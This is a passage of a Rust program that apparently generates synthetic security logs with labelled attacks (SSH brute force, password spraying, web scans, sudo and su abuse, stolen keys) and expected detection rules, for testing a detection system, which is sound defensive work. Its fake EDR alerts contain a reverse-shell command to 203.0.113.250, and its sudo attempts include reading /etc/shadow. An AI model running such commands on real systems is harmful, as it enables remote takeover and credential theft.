                for _ in 0..(if self.rng.random_bool(0.1) { self.rng.random_range(1..=2) } else { 0 }) {
                    self.web(t, ip, "-", "POST", "/login", 401, agent);
                    t += self.rng.random_range(4.0..15.0);
                }
                self.web(t, ip, "-", "POST", "/login", 302, agent);
            }
            t += self.log_uniform(15.0, 120.0);
        }
        t
    }
}

// ── Attacks ─────────────────────────────────────────────────────────────────────────────────────────────────

/// What an attack generator reports besides its lines.
struct Planned {
    kind: &'static str,
    description: String,
    expect: Vec<Expectation>,
}

fn req(rule: &str, entity: impl Into<String>) -> Expectation {
    Expectation { rule: rule.to_string(), entity: entity.into(), required: true }
}

fn may(rule: &str, entity: impl Into<String>) -> Expectation {
    Expectation { rule: rule.to_string(), entity: entity.into(), required: false }
}

const KINDS: [&str; 14] = [
    "fast_brute_force",
    "brute_force_success",
    "slow_brute_force",
    "password_spraying",
    "distributed_brute_force",
    "credential_flood",
    "web_scan",
    "web_flood",
    "web_login_stuffing",
    "sudo_abuse",
    "su_root",
    "new_privileged_source",
    "edr_alert",
    "multi_stage",
];

impl Gen {
    fn attacks(&mut self, people: &[Person]) -> Vec<Attack> {
        let per_kind = self.scaled(3.0);
        let first = 86_400.0;
        let last = self.day_secs();
        let mut plan: Vec<(&str, usize)> = Vec::new();
        for kind in KINDS {
            for i in 0..per_kind {
                plan.push((kind, i));
            }
        }
        plan.shuffle(&mut self.rng);
        let mut attacks = Vec::new();
        for (n, (kind, i)) in plan.into_iter().enumerate() {
            let day = self.rng.random_range(first..last);
            let day0 = (day / 86_400.0).floor() * 86_400.0;
            // The first of each kind comes at the busiest time of day, hidden in the most benign traffic;
            // the others at any time after the nightly jobs, leaving room for the longest attacks before the end.
            let t = if i == 0 {
                day0 + self.rng.random_range(10.0 * 3600.0..15.0 * 3600.0)
            } else {
                day0 + self.rng.random_range(0.5 * 3600.0..14.0 * 3600.0)
            };
            let from = self.lines.len();
            self.in_attack = true;
            let planned = match kind {
                "fast_brute_force" => self.fast_brute_force(t, i == 1, false),
                "brute_force_success" => self.fast_brute_force(t, false, true),
                "slow_brute_force" => self.slow_brute_force(t),
                "password_spraying" => self.password_spraying(t, people),
                "distributed_brute_force" => self.distributed(t, people, false),
                "credential_flood" => self.distributed(t, people, true),
                "web_scan" => self.web_scan(t, i),
                "web_flood" => self.web_flood(t),
                "web_login_stuffing" => self.web_login_stuffing(t),
                "sudo_abuse" => self.sudo_abuse(t, people),
                "su_root" => self.su_root(t, people),
                "new_privileged_source" => self.new_privileged_source(t),
                "edr_alert" => self.edr_alert(t),
                _ => self.multi_stage(t),
            };
            self.in_attack = false;
            let produced = &self.lines[from..];
            let (Some(start), Some(end)) = (produced.iter().map(|l| l.at).min(), produced.iter().map(|l| l.at).max())
            else {
                continue;
            };
            attacks.push(Attack {
                id: format!("a{:03}", n + 1),
                kind: planned.kind.to_string(),
                description: planned.description,
                start,
                end,
                events: produced.len() as u64,
                expect: planned.expect,
            });
        }
        attacks.sort_by(|a, b| a.start.cmp(&b.start).then(a.id.cmp(&b.id)));
        attacks
    }

    fn attempt(&mut self, t: f64, host: &str, user: &str, ip: Ipv4Addr) {
        let port = self.port();
        if SYSTEM_USERS.contains(&user) {
            self.sshd(t, host, &format!("Failed password for {user} from {ip} port {port} ssh2"));
        } else {
            self.sshd(t, host, &format!("Invalid user {user} from {ip} port {port}"));
            self.sshd(t + 0.3, host, &format!("Failed password for invalid user {user} from {ip} port {port} ssh2"));
        }
    }

    /// Password guessing at ≥ 10 tries in 2 minutes; from the office NAT when `hidden` (a compromised
    /// machine inside); ending in a successful login when `success`.
    fn fast_brute_force(&mut self, t: f64, hidden: bool, success: bool) -> Planned {
        let ip = if hidden { OFFICE_NAT } else { self.attacker_ip() };
        let host = if self.rng.random_bool(0.5) { "bastion" } else { "web-1" };
        let k = self.rng.random_range(1..=2);
        let users: Vec<&str> = COMMON_USERS.choose_multiple(&mut self.rng, k).copied().collect();
        let n = self.size(15, 120);
        let step_max = self.rng.random_range(2.0..10.0);
        let mut t = t;
        for _ in 0..n {
            let user = *users.choose(&mut self.rng).unwrap_or(&"root");
            self.attempt(t, host, user, ip);
            t += self.rng.random_range(1.0..step_max);
        }
        let entity = format!("src_ip={ip}");
        let mut expect = vec![
            req("ssh_brute_force", &entity),
            may("abnormal_access_frequency", &entity),
            may("risk_accumulation", &entity),
        ];
        if hidden {
            // Benign logins from the same NAT address right after the attacker's failures look like a success
            // after failures: a correct alert about that address during the attack.
            expect.push(may("success_after_failures", &entity));
        }
        let description = if success {
            let port = self.port();
            self.sshd(t + 2.0, host, &format!("Accepted password for deploy from {ip} port {port} ssh2"));
            self.sshd(t + 2.2, host, "pam_unix(sshd:session): session opened for user deploy(uid=1500) by (uid=0)");
            expect.push(req("success_after_failures", &entity));
            format!("{n} password guesses from {ip} against {host}, then a successful login as deploy")
        } else if hidden {
            format!("{n} password guesses from a compromised office machine behind the NAT {ip}, at the busiest hour")
        } else {
            format!("{n} password guesses from {ip} against {} on {host}", users.join(", "))
        };
        Planned { kind: if success { "brute_force_success" } else { "fast_brute_force" }, description, expect }
    }

    /// 22–45 failures spread over hours (never 10 within 2 minutes), at least 20 within some 6 hours.
    fn slow_brute_force(&mut self, t: f64) -> Planned {
        let ip = self.attacker_ip();
        let host = if self.rng.random_bool(0.5) { "bastion" } else { "web-2" };
        let n = self.rng.random_range(22..=45);
        let (lo, hi) = if self.rng.random_bool(0.5) { (4.0 * 60.0, 10.0 * 60.0) } else { (6.0 * 60.0, 16.0 * 60.0) };
        let mut times = Vec::with_capacity(n);
        let mut at = t;
        for _ in 0..n {
            times.push(at);
            at += self.rng.random_range(lo..hi);
        }
        // Keep at least 20 of them within 6 hours: squeeze the gaps if the draw came out too slow.
        while times.windows(20).map(|w| w[19] - w[0]).fold(f64::MAX, f64::min) > 6.0 * 3600.0 - 60.0 {
            for i in 1..times.len() {
                times[i] = times[0] + (times[i] - times[0]) * 0.9;
            }
        }
        let k = self.rng.random_range(1..=3);
        let users: Vec<&str> = COMMON_USERS.choose_multiple(&mut self.rng, k).copied().collect();
        for &at in &times {
            let user = *users.choose(&mut self.rng).unwrap_or(&"root");
            self.attempt(at, host, user, ip);
        }
        let entity = format!("src_ip={ip}");
        let hours = (times[times.len() - 1] - times[0]) / 3600.0;
        Planned {
            kind: "slow_brute_force",
            description: format!(
                "{n} password guesses from {ip} spread over {hours:.1} h, one every {}–{} min",
                lo / 60.0,
                hi / 60.0
            ),
            expect: vec![req("slow_brute_force", &entity), may("risk_accumulation", &entity)],
        }
    }

    fn password_spraying(&mut self, t: f64, people: &[Person]) -> Planned {
        let ip = self.attacker_ip();
        let host = "bastion";
        let mut pool: Vec<String> = COMMON_USERS.iter().map(|s| s.to_string()).collect();
        pool.extend(people.iter().map(|p| p.name.clone()));
        let k = self.rng.random_range(6..=25.min(pool.len()));
        let users: Vec<String> = pool.choose_multiple(&mut self.rng, k).cloned().collect();
        let step = self.rng.random_range(4.0..40.0);
        let mut t = t;
        for round in 0..self.rng.random_range(1..=2) {
            for u in &users {
                let port = self.port();
                let known = SYSTEM_USERS.contains(&u.as_str()) || people.iter().any(|p| &p.name == u);
                if known {
                    self.sshd(t, host, &format!("Failed password for {u} from {ip} port {port} ssh2"));
                } else {
                    self.attempt(t, host, u, ip);
                }
                t += step * self.rng.random_range(0.5..1.5);
            }
            if round == 0 {
                t += self.rng.random_range(60.0..300.0);
            }
        }
        let entity = format!("src_ip={ip}");
        Planned {
            kind: "password_spraying",
            description: format!("{k} accounts tried from {ip}, about one every {step:.0} s"),
            expect: vec![
                req("password_spraying", &entity),
                may("ssh_brute_force", &entity),
                may("slow_brute_force", &entity),
                may("abnormal_access_frequency", &entity),
                may("risk_accumulation", &entity),
            ],
        }
    }

    /// A botnet guessing one account's password: slowly over SSH, or as a flood against the VPN.
    fn distributed(&mut self, t: f64, people: &[Person], flood: bool) -> Planned {
        let user = if self.rng.random_bool(0.5) {
            (*["admin", "root", "deploy"].choose(&mut self.rng).unwrap_or(&"admin")).to_string()
        } else {
            people.choose(&mut self.rng).map_or_else(|| "alice".to_string(), |p| p.name.clone())
        };
        let entity = format!("user={user}");
        let mut t = t;
        if flood {
            let attempts = self.size(350, 800);
            // The botnet rotates through its addresses, so no single one comes near a per-address rule.
            let bots: Vec<Ipv4Addr> = (0..(attempts / 6).max(60)).map(|_| self.bot_ip()).collect();
            let span = self.rng.random_range(150.0..270.0);
            for k in 0..attempts {
                let ip = bots[k % bots.len()];
                self.json(
                    t,
                    serde_json::json!({
                        "source": "vpn", "host": "vpn-1", "category": "authentication", "action": "login",
                        "outcome": "failure", "user": user, "src_ip": ip.to_string(),
                        "message": "VPN authentication failed: bad password",
                    }),
                );
                t += span / attempts as f64 * self.rng.random_range(0.5..1.5);
            }
            Planned {
                kind: "credential_flood",
                description: format!(
                    "{attempts} VPN logins for {user} from {} addresses within {:.0} s",
                    bots.len(),
                    span
                ),
                expect: vec![req("distributed_brute_force", &entity), req("abnormal_access_frequency_user", &entity)],
            }
        } else {
            let sources = self.size(12, 60);
            let span = self.rng.random_range(10.0 * 60.0..50.0 * 60.0);
            let host = "bastion";
            for _ in 0..sources {
                let ip = self.bot_ip();
                let mut at = t + self.rng.random_range(0.0..span);
                for _ in 0..self.rng.random_range(1..=3) {
                    let port = self.port();
                    self.sshd(at, host, &format!("Failed password for {user} from {ip} port {port} ssh2"));
                    at += self.rng.random_range(2.0..20.0);
                }
            }
            Planned {
                kind: "distributed_brute_force",
                description: format!(
                    "{sources} addresses each trying {user}'s password 1–3 times over {:.0} min",
                    span / 60.0
                ),
                expect: vec![req("distributed_brute_force", &entity), may("abnormal_access_frequency_user", &entity)],
            }
        }
    }

    /// A scanner: fast (wordlist at several requests a second), or slow (one every 20–50 s), or slow from the
    /// office NAT (someone inside running it), hidden in the office's own traffic.
    fn web_scan(&mut self, t: f64, i: usize) -> Planned {
        let hidden = i == 2;
        let ip = if hidden { OFFICE_NAT } else { self.attacker_ip() };
        let agent = *SCANNER_AGENTS.choose(&mut self.rng).unwrap_or(&SCANNER_AGENTS[0]);
        let slow = i != 0 && (hidden || self.rng.random_bool(0.5));
        let (n, step) =
            if slow { (self.rng.random_range(80..=150), (20.0, 50.0)) } else { (self.size(150, 1200), (0.05, 0.5)) };
        let mut t = t;
        for k in 0..n {
            let word = SCANNER_WORDS[k % SCANNER_WORDS.len()];
            let path = if k < SCANNER_WORDS.len() {
                format!("/{word}")
            } else {
                format!("/{word}.{}", k / SCANNER_WORDS.len())
            };
            let r: f64 = self.rng.random();
            let status = if r < 0.9 {
                404
            } else if r < 0.96 {
                403
            } else {
                301
            };
            self.web(t, ip, "-", "GET", &path, status, agent);
            t += self.rng.random_range(step.0..step.1);
        }
        let entity = format!("src_ip={ip}");
        Planned {
            kind: "web_scan",
            description: format!(
                "{} scan of {n} paths from {ip} ({agent}){}",
                if slow { "slow" } else { "fast" },
                if hidden { ", from inside the office" } else { "" }
            ),
            expect: vec![
                req("web_scanning", &entity),
                may("web_error_burst", &entity),
                may("abnormal_access_frequency", &entity),
                may("risk_accumulation", &entity),
            ],
        }
    }

    /// A scraper or flood: hundreds of ordinary requests a minute.
    fn web_flood(&mut self, t: f64) -> Planned {
        let ip = self.attacker_ip();
        let n = self.size(400, 3000);
        let rate = self.rng.random_range(2.0..10.0);
        let mut t = t;
        for k in 0..n {
            let (path, status) = if self.rng.random_bool(0.01) {
                (format!("/static/img/missing-{}.png", k % 3), 404)
            } else {
                (format!("/products/{}", self.rng.random_range(1000..9999)), 200)
            };
            self.web(t, ip, "-", "GET", &path, status, "python-requests/2.31.0");
            t += 1.0 / rate * self.rng.random_range(0.5..1.5);
        }
        let entity = format!("src_ip={ip}");
        Planned {
            kind: "web_flood",
            description: format!("{n} requests from {ip} at about {rate:.1} per second"),
            expect: vec![req("abnormal_access_frequency", &entity), may("risk_accumulation", &entity)],
        }
    }

    fn web_login_stuffing(&mut self, t: f64) -> Planned {
        let ip = self.attacker_ip();
        let n = self.size(60, 400);
        let rate = self.rng.random_range(0.6..4.0);
        let mut t = t;
        for _ in 0..n {
            self.web(t, ip, "-", "POST", "/login", 401, "python-requests/2.31.0");
            t += 1.0 / rate * self.rng.random_range(0.5..1.5);
        }
        if self.rng.random_bool(0.3) {
            self.web(t, ip, "-", "POST", "/login", 302, "python-requests/2.31.0");
        }
        let entity = format!("src_ip={ip}");
        Planned {
            kind: "web_login_stuffing",
            description: format!("{n} login attempts on the web form from {ip} at about {rate:.1} per second"),
            expect: vec![
                req("web_error_burst", &entity),
                may("abnormal_access_frequency", &entity),
                may("risk_accumulation", &entity),
            ],
        }
    }

    /// A compromised account without sudo rights trying to become root.
    fn sudo_abuse(&mut self, t: f64, people: &[Person]) -> Planned {
        let candidates: Vec<&Person> = people.iter().filter(|p| !p.sudoer).collect();
        let p = candidates.choose(&mut self.rng).copied().unwrap_or(&people[0]);
        let host = *APP_HOSTS.choose(&mut self.rng).unwrap_or(&"app-1");
        let ip = self.attacker_ip();
        let port = self.port();
        self.sshd(t, host, &format!("Accepted password for {} from {ip} port {port} ssh2", p.name));
        let mut t = t + self.rng.random_range(20.0..120.0);
        let pts = self.rng.random_range(0..8);
        let fail = format!(
            "pam_unix(sudo:auth): authentication failure; logname={n} uid={u} euid=0 tty=/dev/pts/{pts} ruser={n} rhost=  user={n}",
            n = p.name,
            u = p.uid
        );
        let description = if self.rng.random_bool(0.5) {
            let k = self.rng.random_range(2..=3);
            for _ in 0..k {
                let pid = self.next_pid();
                for _ in 0..3 {
                    self.syslog(t, 85, host, "sudo", Some(pid), &fail);
                    t += self.rng.random_range(2.0..6.0);
                }
                self.syslog(
                    t,
                    81,
                    host,
                    "sudo",
                    Some(pid),
                    &format!(
                    "{} : 3 incorrect password attempts ; TTY=pts/{pts} ; PWD=/home/{} ; USER=root ; COMMAND=/bin/bash",
                    p.name, p.name
                ),
                );
                t += self.rng.random_range(20.0..180.0);
            }
            format!("{}'s account, logged in from {ip}, guessing the sudo password ({k} × 3 attempts)", p.name)
        } else {
            let k = self.rng.random_range(5..=9);
            let cmds = ["/bin/bash", "/usr/bin/id", "/bin/cat /etc/shadow", "/usr/bin/passwd root", "/bin/sh"];
            for _ in 0..k {
                let pid = self.next_pid();
                let cmd = *cmds.choose(&mut self.rng).unwrap_or(&"/bin/sh");
                self.syslog(
                    t,
                    81,
                    host,
                    "sudo",
                    Some(pid),
                    &format!(
                        "{} : user NOT in sudoers ; TTY=pts/{pts} ; PWD=/home/{} ; USER=root ; COMMAND={cmd}",
                        p.name, p.name
                    ),
                );
                t += self.rng.random_range(15.0..150.0);
            }
            format!("{}'s account, logged in from {ip}, trying {k} commands through sudo without the right", p.name)
        };
        Planned { kind: "sudo_abuse", description, expect: vec![req("sudo_failures", format!("user={}", p.name))] }
    }

    fn su_root(&mut self, t: f64, people: &[Person]) -> Planned {
        let candidates: Vec<&Person> = people.iter().filter(|p| !p.sudoer).collect();
        let p = candidates.choose(&mut self.rng).copied().unwrap_or(&people[0]);
        let host = *SERVERS.choose(&mut self.rng).unwrap_or(&"app-1");
        let pts = self.rng.random_range(0..8);
        let mut t = t;
        let fails = self.rng.random_range(0..=3);
        for _ in 0..fails {
            let pid = self.next_pid();
            self.syslog(t, 84, host, "su", Some(pid), &format!("FAILED SU (to root) {} on pts/{pts}", p.name));
            t += self.rng.random_range(5.0..60.0);
        }
        let succeeded = fails == 0 || self.rng.random_bool(0.5);
        if succeeded {
            let pid = self.next_pid();
            self.syslog(t, 86, host, "su", Some(pid), &format!("(to root) {} on pts/{pts}", p.name));
            self.syslog(
                t + 0.1,
                86,
                host,
                "su",
                Some(pid),
                &format!("pam_unix(su-l:session): session opened for user root(uid=0) by {}(uid={})", p.name, p.uid),
            );
        }
        Planned {
            kind: "su_root",
            description: format!(
                "{} ran su to root on {host}: {fails} failure(s){}",
                p.name,
                if succeeded { ", then success" } else { "" }
            ),
            expect: vec![req("su_root", format!("user={}", p.name))],
        }
    }

    /// Stolen credentials of a privileged account used from an address it never used.
    fn new_privileged_source(&mut self, t: f64) -> Planned {
        let ip = self.attacker_ip();
        let user = if self.rng.random_bool(0.7) { "root" } else { "admin" };
        let uid = if user == "root" { 0 } else { 1000 };
        let host = *SERVERS.choose(&mut self.rng).unwrap_or(&"bastion");
        let port = self.port();
        self.sshd(
            t,
            host,
            &format!(
                "Accepted publickey for {user} from {ip} port {port} ssh2: RSA SHA256:{:016x}",
                u64::from(ip.to_bits()) * 31
            ),
        );
        self.sshd(
            t + 0.2,
            host,
            &format!("pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)"),
        );
        let end = t + self.rng.random_range(60.0..1800.0);
        self.sshd(end, host, &format!("pam_unix(sshd:session): session closed for user {user}"));
        Planned {
            kind: "new_privileged_source",
            description: format!("{user} logged in on {host} with a stolen key from {ip}"),
            expect: vec![
                req("new_privileged_source", format!("user={user},src_ip={ip}")),
                may("risk_accumulation", format!("src_ip={ip}")),
            ],
        }
    }

    fn edr_alert(&mut self, t: f64) -> Planned {
        let host = *APP_HOSTS.choose(&mut self.rng).unwrap_or(&"app-2");
        let findings = [
            ("critical", "Credential dumping tool detected: mimikatz.exe"),
            ("high", "Suspicious reverse shell: bash -i >& /dev/tcp/203.0.113.250/4444"),
            ("critical", "Ransomware behaviour: mass file encryption in /srv/data"),
        ];
        let k = self.rng.random_range(1..=3);
        let mut t = t;
        for _ in 0..k {
            let (severity, message) = *findings.choose(&mut self.rng).unwrap_or(&findings[0]);
            self.json(
                t,
                serde_json::json!({ "source": "edr", "host": host, "severity": severity, "message": message }),
            );
            t += self.rng.random_range(5.0..60.0);
        }
        Planned {
            kind: "edr_alert",
            description: format!("{k} high/critical EDR finding(s) on {host}"),
            expect: vec![req("high_severity_passthrough", format!("host={host}"))],
        }
    }

    /// A careful attacker probing SSH and the web site from one address, staying under every single rule:
    /// 6–8 failed logins (2–3 of them for accounts that do not exist) and 10–16 refused web requests within
    /// 15–40 minutes. Only their sum (risk ≥ 70) gives them away.
    fn multi_stage(&mut self, t: f64) -> Planned {
        let ip = self.attacker_ip();
        let span = self.rng.random_range(15.0 * 60.0..40.0 * 60.0);
        let failures = self.rng.random_range(6..=8);
        let invalid = self.rng.random_range(2..=3);
        let probes = self.rng.random_range(10..=16);
        let host = "bastion";
        for k in 0..failures {
            let at = t + self.rng.random_range(0.0..span);
            let port = self.port();
            if k < invalid {
                let user = ["oracle", "test", "pi"][k % 3];
                self.sshd(at, host, &format!("Invalid user {user} from {ip} port {port}"));
            } else {
                self.sshd(at, host, &format!("Failed password for root from {ip} port {port} ssh2"));
            }
        }
        for k in 0..probes {
            let at = t + self.rng.random_range(0.0..span);
            let path = format!("/{}", SCANNER_WORDS[(k * 7) % SCANNER_WORDS.len()]);
            self.web(at, ip, "-", "GET", &path, 404, "curl/8.5.0");
        }
        let entity = format!("src_ip={ip}");
        Planned {
            kind: "multi_stage",
            description: format!(
                "{ip}: {failures} failed SSH logins ({invalid} for unknown accounts) and {probes} refused web probes within {:.0} min",
                span / 60.0
            ),
            expect: vec![req("risk_accumulation", &entity)],
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_seed_gives_the_same_files_and_benign_is_mixed_without_attacks() {
        let (a, b, c) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        let opts = SimOptions { seed: 7, scale: 0.05, days: 1, scenario: Scenario::Mixed };
        let ta = simulate(&opts, a.path()).unwrap();
        let tb = simulate(&opts, b.path()).unwrap();
        assert_eq!(ta, tb);
        for f in [AUTH_LOG, ACCESS_LOG, EVENTS_FILE] {
            assert_eq!(std::fs::read(a.path().join(f)).unwrap(), std::fs::read(b.path().join(f)).unwrap(), "{f}");
        }
        assert_eq!(ta.attacks.len(), KINDS.len(), "one attack of each kind at this scale");
        assert!(ta.attacks.iter().all(|x| x.expect.iter().any(|e| e.required) && x.events > 0));

        let tc = simulate(&SimOptions { scenario: Scenario::Benign, ..opts }, c.path()).unwrap();
        assert!(tc.attacks.is_empty());
        assert_eq!(tc.events.benign, ta.events.benign);
        assert_eq!(tc.events.attack, 0);
        // Every line is unique: event ids come from content.
        for f in [AUTH_LOG, ACCESS_LOG, EVENTS_FILE] {
            let text = std::fs::read_to_string(a.path().join(f)).unwrap();
            let lines: Vec<&str> = text.lines().collect();
            let unique: HashSet<&str> = lines.iter().copied().collect();
            assert_eq!(unique.len(), lines.len(), "{f}");
        }
    }
}
